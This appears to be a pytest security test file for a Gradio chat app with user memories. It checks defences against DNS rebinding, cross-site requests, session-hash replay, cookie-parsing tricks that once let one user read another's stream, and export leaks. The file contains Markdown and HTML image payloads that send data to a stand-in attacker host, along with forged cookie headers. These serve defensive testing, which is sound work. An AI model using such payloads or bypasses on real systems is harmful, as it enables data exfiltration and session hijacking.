"""The web app attacked the way a web page or another signed-in user would, with a real HTTP client
against a real server: forged Host and Origin headers (DNS rebinding, cross-site requests),
another login replaying a session hash, exports fetched by someone else or after "Forget me".

Gradio's own protocol is spoken directly (``POST /gradio_api/queue/join``, then the event stream
of ``GET /gradio_api/queue/data``), as an attacker's script would.
"""

from __future__ import annotations

import contextlib
import json
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import gradio as gr
import httpx
import pytest

from memory_bank import MemoryBank
from memory_bank.embeddings import HashingEncoder
from silicon_friend.engine import ChatSettings, SiliconFriend
from silicon_friend.models import prepare_model
from silicon_friend.web.app import WebApp
from silicon_friend.web.downloads import DownloadStore
from silicon_friend.web.guard import host_policy
from silicon_friend.web.safe_text import inert_markdown
from tests.conftest import free_port
from tests.silicon_friend.fakes import EchoChatModel, steps

SECRET = "my diary code is PLUM-7781"


class Server:
    """A running app (echo model) and helpers to call its events over HTTP."""

    def __init__(self, demo: Any, web: WebApp, port: int, bank: MemoryBank) -> None:
        self.demo, self.web, self.port, self.bank = demo, web, port, bank
        self.url = f"http://127.0.0.1:{port}"
        self.fn = {f.name: i for i, f in demo.fns.items()}

    @contextlib.contextmanager
    def client(self, host: str | None = None, login: tuple[str, str] | None = None) -> Iterator[httpx.Client]:
        headers = {"Host": host} if host else {}
        with httpx.Client(base_url=self.url, headers=headers, timeout=30) as client:
            if login is not None:
                r = client.post("/login", data={"username": login[0], "password": login[1]})
                assert r.status_code in (200, 302, 303), r.text
            yield client

    def call(
        self,
        client: httpx.Client,
        fn: str,
        data: list[Any],
        session_hash: str,
        headers: dict[str, str] | None = None,
    ) -> tuple[int, Any]:
        """Run one event the way the page does; returns (HTTP status of the join, final output)."""
        body = {"data": data, "fn_index": self.fn[fn], "session_hash": session_hash, "event_data": None}
        r = client.post("/gradio_api/queue/join", json=body, headers=headers or {})
        if r.status_code != 200:
            return r.status_code, None
        with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session_hash}) as events:
            for line in events.iter_lines():
                if not line.startswith("data:"):
                    continue
                message = json.loads(line[5:])
                if message.get("msg") == "process_completed":
                    return 200, (message.get("output") or {}).get("data")
        return 200, None


@pytest.fixture
def serve_app(tmp_path, monkeypatch) -> Iterator[Callable[..., Server]]:  # type: ignore[no-untyped-def]
    from silicon_friend.web.server import serve

    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "gradio-cache"))
    started: list[Server] = []

    def start(credentials: list[tuple[str, str]] | None = None) -> Server:
        bank = MemoryBank.open(tmp_path / f"store{len(started)}", encoder_instance=HashingEncoder(128))
        engine = SiliconFriend(
            bank,
            prepare_model(EchoChatModel(), context_tokens=2048),
            settings=ChatSettings(max_new_tokens=32),
        )
        port = free_port()
        webs: list[WebApp] = []
        original = WebApp.build

        def build(self: WebApp) -> Any:
            webs.append(self)
            return original(self)

        monkeypatch.setattr(WebApp, "build", build)
        demo = serve(engine, port=port, credentials=credentials, block=False)
        started.append(Server(demo, webs[-1], port, bank))
        return started[-1]

    yield start
    for server in started:
        server.demo.close()
        server.bank.close()


SLIDERS = [0.7, 0.9, 32, 2]


# -- item 10: DNS rebinding and cross-site requests ------------------------------------------------
def test_a_rebinding_host_name_is_refused_and_loopback_names_served(serve_app) -> None:  # type: ignore[no-untyped-def]
    server = serve_app()
    for host in (f"127.0.0.1:{server.port}", f"localhost:{server.port}"):
        with server.client(host) as c:
            page = c.get("/")
            assert page.status_code == 200 and "SiliconFriend" in page.text
            assert "img-src 'self' data: blob:" in page.headers["content-security-policy"]
    for host in (f"evil.example:{server.port}", f"127.0.0.1.nip.io:{server.port}", "localhost."):
        with server.client(host) as c:
            r = c.get("/config")
            assert r.status_code == 403 and "not allowed" in r.text, host


def test_a_rebinding_page_cannot_read_or_forget_a_users_memories(serve_app) -> None:  # type: ignore[no-untyped-def]
    server = serve_app()
    server.bank.add_turn("Emily", SECRET, "safe with me")
    with server.client(f"rebind.attacker.example:{server.port}") as c:
        status, _ = server.call(
            c, "memories", ["Emily", "", "", "all", "all", "", "", 1], "h" + uuid.uuid4().hex[:10]
        )
        assert status == 403
        status, _ = server.call(c, "forget_me", ["Emily", True], "h" + uuid.uuid4().hex[:10])
        assert status == 403
    assert [m.query for m in server.bank.history("Emily")] == [SECRET]
    with server.client() as c:  # the same calls from the app's own page work
        status, out = server.call(
            c, "memories", ["Emily", "", "", "all", "all", "", "", 1], "h" + uuid.uuid4().hex[:10]
        )
        assert status == 200 and SECRET in json.dumps(out)


def test_state_changes_from_another_origin_are_refused(serve_app) -> None:  # type: ignore[no-untyped-def]
    server = serve_app()
    server.bank.add_turn("Emily", SECRET, "safe with me")
    with server.client() as c:
        for origin in ("http://evil.example", "null", f"http://localhost:{server.port + 1}"):
            status, _ = server.call(c, "forget_me", ["Emily", True], "h1", headers={"Origin": origin})
            assert status == 403, origin
        status, _ = server.call(
            c, "forget_me", ["Emily", True], "h2", headers={"Sec-Fetch-Site": "cross-site"}
        )
        assert status == 403
        assert server.bank.has_user("Emily")
        status, _ = server.call(c, "forget_me", ["Emily", True], "h3", headers={"Origin": server.url})
        assert status == 200 and not server.bank.has_user("Emily")


def test_host_policy_of_each_bind_address() -> None:
    loopback = host_policy("127.0.0.1")
    assert (
        loopback.allows("127.0.0.1:7860") and loopback.allows("[::1]:7860") and loopback.allows("LOCALHOST")
    )
    assert not loopback.allows("192.168.1.5:7860") and not loopback.allows("friend.example")
    lan = host_policy("0.0.0.0", ["friend.example"])
    assert lan.allows("192.168.1.5:7860") and lan.allows("friend.example:443") and lan.allows("[fe80::1]")
    assert not lan.allows("evil.example")
    assert host_policy("127.0.0.1", share=True).allows("abc123.gradio.live") and not loopback.allows("")


# -- item 11: handlers act only on the signed-in user's own session ----------------------------------
def test_another_login_replaying_a_session_hash_is_refused(serve_app) -> None:  # type: ignore[no-untyped-def]
    server = serve_app([("alice", "pw-a"), ("bob", "pw-b")])
    alice_hash = "alice" + uuid.uuid4().hex[:8]
    with server.client(login=("alice", "pw-a")) as alice:
        status, out = server.call(alice, "send", [SECRET, "", *SLIDERS], alice_hash)
        assert status == 200 and f"Echo: {SECRET}" in json.dumps(out)
    with server.client(login=("bob", "pw-b")) as bob:
        for fn, data in (("remove_last", []), ("new_conversation", []), ("stop", [])):
            status, _ = server.call(bob, fn, data, alice_hash)
            assert status == 403, fn
        r = bob.get("/gradio_api/queue/data", params={"session_hash": alice_hash})
        assert r.status_code == 403  # nor can bob read alice's event stream
        status, _ = server.call(bob, "remove_last", [], "bob" + uuid.uuid4().hex[:8])
        assert status == 200  # his own session works
    assert [m.query for m in server.bank.history("alice")] == [SECRET]


def test_a_login_cookie_written_oddly_gets_no_one_elses_session(serve_app) -> None:  # type: ignore[no-untyped-def]
    """The guard read the cookie with a stricter parser than Gradio's: a header starting with a
    reserved name (``path=/;``), or a second Cookie header, hid bob's login from the guard but
    not from Gradio, and the session check was skipped: bob read alice's reply stream."""
    server = serve_app([("alice", "pw-a"), ("bob", "pw-b")])
    alice_hash = "alice" + uuid.uuid4().hex[:8]
    with server.client(login=("alice", "pw-a")) as alice:
        assert server.call(alice, "send", [SECRET, "", *SLIDERS], alice_hash)[0] == 200
    with server.client(login=("bob", "pw-b")) as bob:
        login = "; ".join(f"{c.name}={c.value}" for c in bob.cookies.jar if c.name.startswith("access-token"))
        forged = "; ".join(f"{c.name}=forged" for c in bob.cookies.jar if c.name.startswith("access-token"))
    raw = httpx.Client(base_url=server.url, timeout=30)
    for headers in (
        [("cookie", f"path=/; {login}")],
        [("cookie", login), ("cookie", "other=1")],
        [("cookie", login), ("Cookie", forged)],
    ):
        with raw.stream("GET", "/gradio_api/queue/data", params={"session_hash": alice_hash}, headers=headers) as r:
            assert r.status_code == 403, headers  # (a stream let through would never end)
    body = json.dumps({"data": [], "fn_index": server.fn["remove_last"], "session_hash": alice_hash})
    r = raw.post("/gradio_api/queue/join", content=body, headers={"cookie": login})  # no content type
    assert r.status_code == 403 and "another signed-in user" in r.text
    for kind in ("Application/JSON", "application/JSON; charset=utf-8", "text/plain"):  # read as JSON all the same
        r = raw.post("/gradio_api/queue/join", content=body, headers={"cookie": login, "content-type": kind})
        assert r.status_code == 403, kind
    cancel = json.dumps({"session_hash": alice_hash, "fn_index": server.fn["send"], "event_id": "x"})
    r = raw.post("/gradio_api/cancel", content=cancel, headers={"content-type": "Application/JSON"})
    assert r.status_code == 403  # no login at all (Gradio itself does not check one there)
    r = raw.post("/gradio_api/queue/join", content=body)  # no login at all
    assert r.status_code == 403
    raw.close()
    assert [m.query for m in server.bank.history("alice")] == [SECRET]


def test_handlers_never_act_on_another_logins_session(bank, clock) -> None:  # type: ignore[no-untyped-def]
    """Even past the guard, state is found by (login, session hash), never by the hash alone."""
    engine = SiliconFriend(bank, prepare_model(EchoChatModel(), context_tokens=2048))
    app = WebApp(engine, auth=True)
    alice = gr.Request(username="alice", session_hash="shared")
    bob = gr.Request(username="bob", session_hash="shared")
    list(steps(app.send(SECRET, "", *SLIDERS, alice)))
    assert app.remove_last(bob) == [] and app.new_conversation(bob)[0] == []
    app.stop(bob)
    assert [m.query for m in bank.history("alice")] == [SECRET]
    assert [m["content"] for m in app.remove_last(alice)] == []  # alice's own action works
    assert not bank.history("alice")


def test_the_summary_state_and_what_it_knows_never_reach_another_login(bank, clock) -> None:  # type: ignore[no-untyped-def]
    """The timer's endpoint takes no name: it shows the signed-in user's own summaries only, and
    a model's answer (or an error) carrying HTML is rendered inert."""
    from memory_bank.summaries import RolloverScheduler, Summarizer

    model = EchoChatModel(reply="The user <img src=http://evil.example/x.png> adopted a cat called Miso.")
    summarizer = Summarizer(bank, model, "en", sleep=lambda _s: None)
    engine = SiliconFriend(
        bank, prepare_model(model, context_tokens=2048), summarizer=summarizer,
        scheduler=RolloverScheduler(summarizer),
    )  # fmt: skip
    app = WebApp(engine, auth=True)
    alice = gr.Request(username="alice", session_hash="shared")
    bob = gr.Request(username="bob", session_hash="shared")
    list(steps(app.send(SECRET, "", *SLIDERS, alice)))
    app.summarize("", alice)
    assert engine.scheduler.wait(10)
    assert app.summary_tick(bob) == (gr.update(),) * 3  # bob's tab shows nothing of alice's
    text, knows, line = app.summary_tick(alice)
    assert "adopted a cat called Miso" in knows and "<img" not in knows + text + line
    engine.close()


# -- item 12: text that would load remote resources is rendered inert -----------------------------------
@pytest.mark.parametrize(
    "text",
    [
        '<img src="http://evil.example/x.png">',
        "![memories](http://evil.example/leak?d=secret)",
        "! [spaced](http://evil.example/a.png)",
        "![ref][1]\n\n[1]: http://evil.example/ref.png",
        "<svg><image href='http://evil.example/s.png'/></svg>",
    ],
)
def test_html_and_markdown_images_become_plain_text(text: str) -> None:
    out = inert_markdown(text)
    assert "<" not in out and "![" not in out.replace("!\\[", "") and "\n[1]:" not in out


# -- item 13: exports only for their owner, gone after "Forget me" ----------------------------------------
def _link(output: Any) -> str:
    text = json.dumps(output)
    start = text.index("sf-export/")
    return "/" + text[start : text.index(")", start)]


def test_an_export_is_served_to_its_owner_only_and_removed_with_the_user(serve_app, tmp_path) -> None:  # type: ignore[no-untyped-def]
    server = serve_app([("alice", "pw-a"), ("bob", "pw-b")])
    with server.client(login=("alice", "pw-a")) as alice, server.client(login=("bob", "pw-b")) as bob:
        status, _ = server.call(alice, "send", [SECRET, "", *SLIDERS], "a1")
        status, out = server.call(alice, "export", [""], "a1")
        assert status == 200
        link = _link(out)
        mine = alice.get(link)
        assert mine.status_code == 200 and SECRET in mine.text
        assert (
            "attachment" in mine.headers["content-disposition"]
            and mine.headers["cache-control"] == "no-store"
        )
        assert bob.get(link).status_code == 404  # another signed-in user
        with server.client() as anonymous:
            assert anonymous.get(link).status_code == 404
        status, _ = server.call(alice, "forget_me", ["", True], "a1")
        assert status == 200 and not server.bank.has_user("alice")
        assert alice.get(link).status_code == 404  # gone with the user
    cache = tmp_path / "gradio-cache"  # Gradio's file cache holds no copy either
    copies = [p for p in cache.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    assert copies == []


def test_exports_expire() -> None:
    now = [0.0]
    store = DownloadStore(ttl_s=60, clock=lambda: now[0])
    link = store.add("Emily", None, "memories_Emily.json", b"{}")
    token = link.rsplit("/", 1)[1]
    assert store.get(token, None) is not None
    now[0] = 61
    assert store.get(token, None) is None and len(store) == 0
